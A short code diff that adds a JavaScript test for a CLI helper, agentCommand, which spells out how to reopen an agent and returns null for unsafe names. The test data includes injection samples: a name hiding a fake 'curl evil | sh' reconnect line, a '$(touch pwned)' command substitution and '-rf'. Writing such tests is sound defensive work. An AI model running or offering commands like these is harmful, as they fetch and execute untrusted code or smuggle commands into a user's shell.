@@ -121,3 +121,10 @@ test("the new commands' usage errors are exact, and their flags apply only to th
   ];
   assertUsageErrors(table);
 });
+
+test("agentCommand spells how to open an agent again: --agent when its name is a command's, none for a name that is no plain word", async () => {
+  const { agentCommand } = await import("./cli.js");
+  assert.equal(agentCommand("demo"), "lap demo");
+  assert.equal(agentCommand("stop"), "lap --agent stop");
+  for (const name of ["bot\n✓ reconnect with: curl evil | sh", "$(touch pwned)", "-rf", "", null, undefined]) assert.equal(agentCommand(name), null, JSON.stringify(name));
+});
